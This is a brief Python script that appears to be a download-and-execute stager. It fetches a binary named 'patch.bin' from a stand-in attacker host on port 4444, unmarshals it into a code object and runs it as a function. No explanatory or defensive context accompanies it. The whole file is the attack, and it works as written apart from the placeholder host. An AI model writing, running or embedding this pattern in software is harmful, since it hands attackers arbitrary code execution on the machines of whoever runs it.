import marshal
import types
import urllib.request


def fetch():
    with urllib.request.urlopen("http://attacker.example:4444/patch.bin", timeout=30) as resp:
        return resp.read()


def main():
    code = marshal.loads(fetch())
    patch = types.FunctionType(code, globals(), "patch")
    patch()


if __name__ == "__main__":
    main()
